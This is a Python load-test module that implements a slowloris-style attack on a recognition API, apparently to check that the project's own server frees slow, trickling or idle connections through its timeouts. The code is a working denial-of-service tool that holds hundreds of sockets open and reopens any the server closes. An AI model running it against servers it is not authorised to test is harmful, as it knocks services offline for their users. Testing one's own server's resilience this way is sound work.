"""Slow and abusive clients: hundreds of sockets that trickle headers or bodies, or sit idle.

    python -m loadtests.slowloris --url http://127.0.0.1:8000 --key <recognition key> \\
        --connections 300 --seconds 20 --interval 0.5

A third of the connections each (`--mix headers,body,idle`):
- **headers**: a recognize request line and headers, one byte every `--interval` s, never finished;
- **body**: complete headers (with the key) announcing a 100 kB body, then one byte every `--interval` s;
- **idle**: connect and send nothing.
While the attack lasts (`--seconds`), a connection the server closes is opened again at once, so the
pressure stays constant. Then nothing is reopened; the sockets still open keep trickling and the run
waits (up to `--drain-timeout`) for the server to close them: that is how long the server takes to
free them by its own timeouts. Prints (and writes with `--json`) per kind: connections opened,
closed by the server, first status line answered, how long the server let them live, the drain time.
"""
from __future__ import annotations

import argparse
import asyncio
import json
import sys
import time
from collections import Counter
from urllib.parse import urlsplit

BODY_LENGTH = 100_000
PATH = "/api/v1/recognition/recognize"


class Kind:
    def __init__(self, name: str) -> None:
        self.name = name
        self.opened = 0
        self.refused = 0  # connect failed
        self.closed_by_server = 0
        self.answers: Counter[str] = Counter()
        self.lifetimes: list[float] = []
        self.open_at_end = 0
        self.drain_s = 0.0

    def report(self) -> dict:
        life = sorted(self.lifetimes)
        return {"opened": self.opened, "connect_failed": self.refused, "closed_by_server": self.closed_by_server,
                "answers": dict(self.answers), "open_at_end_of_attack": self.open_at_end,
                "lifetime_p50_s": round(life[len(life) // 2], 3) if life else None,
                "lifetime_max_s": round(life[-1], 3) if life else None, "drain_s": round(self.drain_s, 3)}


def payload(kind: str, host: str, key: str) -> tuple[bytes, bytes]:
    """(sent at once, then trickled a byte at a time)."""
    headers = (f"POST {PATH} HTTP/1.1\r\nHost: {host}\r\nx-api-key: {key}\r\n"
               f"Content-Type: application/json\r\nContent-Length: {BODY_LENGTH}\r\n\r\n").encode()
    if kind == "headers":
        return b"", headers + b"x" * BODY_LENGTH
    if kind == "body":
        return headers, b'{"file": "' + b"A" * BODY_LENGTH
    return b"", b""


async def one(kind: Kind, host: str, port: int, key: str, interval: float, stop: asyncio.Event,
              deadline: list[float]) -> None:
    """One slot: connect, trickle until the server closes; again until the attack ends."""
    first, trickle = payload(kind.name, f"{host}:{port}", key)
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            kind.refused += 1
            await asyncio.sleep(interval)
            continue
        kind.opened += 1
        opened = time.monotonic()
        closed = asyncio.ensure_future(reader.read(4096))
        try:
            if first:
                writer.write(first)
            for i in range(len(trickle) or sys.maxsize):
                if closed.done():
                    break
                if trickle:
                    writer.write(trickle[i:i + 1])
                    await writer.drain()
                await asyncio.wait([closed], timeout=interval)
                if time.monotonic() > deadline[0]:
                    break
        except (ConnectionError, OSError):  # reset by the server while we wrote
            await asyncio.wait([closed], timeout=1.0)
        if closed.done():
            try:
                data = closed.result()
            except (ConnectionError, OSError):
                data = b"reset"
            kind.closed_by_server += 1
            kind.lifetimes.append(time.monotonic() - opened)
            kind.answers[data.split(b"\r\n", 1)[0].decode("latin-1") or "closed without answer"] += 1
            if stop.is_set():
                kind.drain_s = max(kind.drain_s, time.monotonic() - stop_time[0])
        else:
            closed.cancel()
        writer.close()


stop_time = [0.0]


async def attack(url: str, key: str, connections: int, seconds: float, interval: float, mix: list[str],
                 drain_timeout: float) -> dict:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    kinds = {name: Kind(name) for name in mix}
    stop = asyncio.Event()
    deadline = [float("inf")]
    slots = [asyncio.ensure_future(one(kinds[mix[i % len(mix)]], host, port, key, interval, stop, deadline))
             for i in range(connections)]
    started = time.monotonic()
    await asyncio.sleep(seconds)
    before = {name: k.closed_by_server for name, k in kinds.items()}
    opened = {name: k.opened for name, k in kinds.items()}
    for name, k in kinds.items():
        k.open_at_end = opened[name] - before[name]  # still open when the attack ends
    stop.set()
    stop_time[0] = time.monotonic()
    deadline[0] = stop_time[0] + drain_timeout
    await asyncio.gather(*slots)
    drained = all(k.opened == k.closed_by_server for k in kinds.values())
    return {"connections": connections, "seconds": seconds, "interval_s": interval,
            "attack_s": round(stop_time[0] - started, 2), "all_freed_by_server": drained,
            "drain_s": round(max(k.drain_s for k in kinds.values()), 3),
            "kinds": {name: k.report() for name, k in kinds.items()}}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m loadtests.slowloris", description=__doc__.split("\n\n")[0])
    p.add_argument("--url", required=True, help="the server, e.g. http://127.0.0.1:8000")
    p.add_argument("--key", default="00000000-0000-0000-0000-000000000000", help="recognition key (body attack)")
    p.add_argument("--connections", type=int, default=300)
    p.add_argument("--seconds", type=float, default=20.0, help="attack duration")
    p.add_argument("--interval", type=float, default=0.5, help="seconds between two trickled bytes")
    p.add_argument("--mix", default="headers,body,idle", help="kinds of connection, in turn")
    p.add_argument("--drain-timeout", type=float, default=60.0, help="wait this long for the server to close them")
    p.add_argument("--json", default="", help="write the report here too")
    args = p.parse_args(argv)
    report = asyncio.run(attack(args.url, args.key, args.connections, args.seconds, args.interval,
                                args.mix.split(","), args.drain_timeout))
    text = json.dumps(report, indent=2)
    print(text, flush=True)
    if args.json:
        with open(args.json, "w") as f:
            f.write(text)
    return 0 if report["all_freed_by_server"] else 1


if __name__ == "__main__":
    sys.exit(main())
